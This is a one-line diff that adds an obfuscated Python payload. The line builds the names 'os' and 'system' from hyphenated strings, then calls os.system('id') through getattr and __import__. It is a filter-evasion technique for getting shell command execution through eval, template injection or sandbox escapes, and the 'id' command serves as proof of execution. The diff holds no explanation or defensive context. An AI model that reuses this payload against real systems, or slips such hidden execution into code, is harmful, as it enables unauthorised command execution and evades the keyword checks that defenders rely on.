@@ -1,0 +1,1 @@
+getattr(__import__("o-s".replace("-", "")), "s-y-s-t-e-m".replace("-", ""))("id")
